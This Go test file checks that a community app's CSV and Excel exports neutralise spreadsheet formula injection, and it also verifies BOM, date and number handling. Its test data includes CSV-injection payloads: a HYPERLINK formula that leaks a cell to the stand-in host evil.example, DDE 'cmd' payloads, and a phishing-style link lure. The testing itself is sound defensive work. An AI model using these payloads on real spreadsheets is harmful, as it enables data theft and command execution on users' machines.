package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"linli/export"
	"linli/handlers"
	"linli/store"
	"linli/store/sqldb"
)

// attacks are cells a resident could type that a spreadsheet would run.
var attacks = []string{`=HYPERLINK("http://evil.example/?"&A1,"点我")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"}

func sample() export.Table {
	t := export.Table{
		Header: []string{"编号", "日期", "份数", "金额", "房号", "内容"},
		Kinds:  []string{export.KindText, export.KindDate, export.KindNumber, export.KindNumber, export.KindText, export.KindText},
		Rows: [][]string{
			{"D1", "2026-11-25", "2", "-3.50", "0301", "午餐"},
			{"D2", "2026-11-26", "1", "12.00", "-1", ""},
		},
		Subtotals: [][]string{{"小计", "2026-11-25", "2", "-3.50", "", ""}},
		Totals:    []string{"合计", "", "3", "8.50", "", ""},
	}
	for i, a := range attacks {
		t.Rows = append(t.Rows, []string{"S" + strconv.Itoa(i), "", "1", "0", "", a})
	}
	return t
}

// TestCSVOpensInChineseExcelAndRunsNothing: the CSV starts with a UTF-8
// byte-order mark (Excel on a Chinese Windows otherwise reads GBK), and no
// cell a resident typed starts with what a spreadsheet runs as a formula;
// numbers in number columns stay numbers.
func TestCSVOpensInChineseExcelAndRunsNothing(t *testing.T) {
	var b bytes.Buffer
	if err := export.WriteCSV(&b, sample()); err != nil {
		t.Fatal(err)
	}
	body, ok := bytes.CutPrefix(b.Bytes(), []byte{0xEF, 0xBB, 0xBF})
	if !ok {
		t.Fatalf("CSV starts % x, want the UTF-8 byte-order mark", b.Bytes()[:3])
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(rows[0], ",") != "编号,日期,份数,金额,房号,内容" || len(rows) != 1+2+len(attacks) {
		t.Fatalf("rows = %q: want the header and every row, no totals", rows)
	}
	if got := strings.Join(rows[1], ","); got != "D1,2026-11-25,2,-3.50,0301,午餐" {
		t.Errorf("row 1 = %s: want the number -3.50 left alone", got)
	}
	if rows[2][4] != "'-1" {
		t.Errorf("text cell -1 = %q, want it neutralised", rows[2][4])
	}
	for i, a := range attacks {
		cell := rows[3+i][5]
		// encoding/csv may read a lone carriage return as a line end.
		if cell != "'"+a && cell != "'"+strings.TrimPrefix(a, "\r") && cell != "'\n"+strings.TrimPrefix(a, "\r") {
			t.Errorf("cell %q written as %q, want it behind an apostrophe", a, cell)
		}
	}
}

// TestXLSXNumbersDatesAndNoFormulas: numbers and dates are real (a SUM or a
// date filter works), rooms and ids stay text, the header is frozen, and a
// cell starting with = is text that shows as typed, never a formula.
func TestXLSXNumbersDatesAndNoFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := export.WriteXLSX(&b, "订餐", sample()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	raw := func(cell string) string {
		v, err := f.GetCellValue("订餐", cell, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	shown := func(cell string) string {
		v, _ := f.GetCellValue("订餐", cell)
		return v
	}
	if got := raw("C2") + " " + raw("D2"); got != "2 -3.5" {
		t.Errorf("numbers = %s, want 2 -3.5 stored as numbers", got)
	}
	if typ, _ := f.GetCellType("订餐", "E2"); raw("E2") != "0301" || typ != excelize.CellTypeInlineString {
		t.Errorf("room = %q (%v), want the text 0301", raw("E2"), typ)
	}
	serial, err := strconv.ParseFloat(raw("B2"), 64)
	if want := 46351.0; err != nil || serial != want || shown("B2") != "2026-11-25" {
		t.Errorf("date = raw %q shown %q, want the serial %v shown 2026-11-25", raw("B2"), shown("B2"), want)
	}
	for i, a := range attacks {
		cell := "F" + strconv.Itoa(4+i)
		if formula, _ := f.GetCellFormula("订餐", cell); formula != "" || shown(cell) != strings.TrimLeft(a, "\t\r") && shown(cell) != a {
			t.Errorf("%s = %q formula %q, want the text %q and no formula", cell, shown(cell), formula, a)
		}
	}
	rows, _ := f.GetRows("订餐")
	if last := rows[len(rows)-1]; last[0] != "合计" || last[2] != "3" || rows[len(rows)-2][0] != "小计" {
		t.Errorf("last rows = %q, want the subtotal then the total", rows[len(rows)-2:])
	}
	panes, err := f.GetPanes("订餐")
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes = %+v (%v), want the header row frozen", panes, err)
	}
	if w, _ := f.GetColWidth("订餐", "B"); w < 10 {
		t.Errorf("date column %v wide, want room for 2026-11-25", w)
	}
}

// TestSuggestionStartingWithEqualsDoesNotRun goes the whole way: a
// resident files a suggestion that is a formula, the handlers shape the
// export, and neither the CSV nor the xlsx would run it.
func TestSuggestionStartingWithEqualsDoesNotRun(t *testing.T) {
	ctx := context.Background()
	st, err := sqldb.Open(ctx, "sqlite", filepath.Join(t.TempDir(), "linli.db"))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	r, _ := st.TouchResident(ctx, "console", "=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0")
	evil := `=HYPERLINK("http://evil.example","点我领补贴")`
	if _, err := st.FileSuggestion(ctx, store.Suggestion{Text: evil, Category: "其他"}, store.Author{ResidentID: r.ID}, 5); err != nil {
		t.Fatal(err)
	}
	loc, _ := time.LoadLocation("Asia/Shanghai")
	table, err := handlers.ExportSuggestions(ctx, st, handlers.ExportQuery{Location: loc})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := export.WriteCSV(&b, export.Table(table)); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), ",=") || strings.Contains(b.String(), "\"=") {
		t.Errorf("CSV has a cell starting with =:\n%s", b.String())
	}
	if !strings.Contains(b.String(), `'=HYPERLINK(""http://evil.example""`) {
		t.Errorf("CSV lost the suggestion's text:\n%s", b.String())
	}
	b.Reset()
	if err := export.WriteXLSX(&b, "建议", export.Table(table)); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	formula, _ := f.GetCellFormula("建议", "H2")
	if text, _ := f.GetCellValue("建议", "H2"); formula != "" || text != evil {
		t.Errorf("xlsx H2 = %q formula %q, want the suggestion as text", text, formula)
	}
}
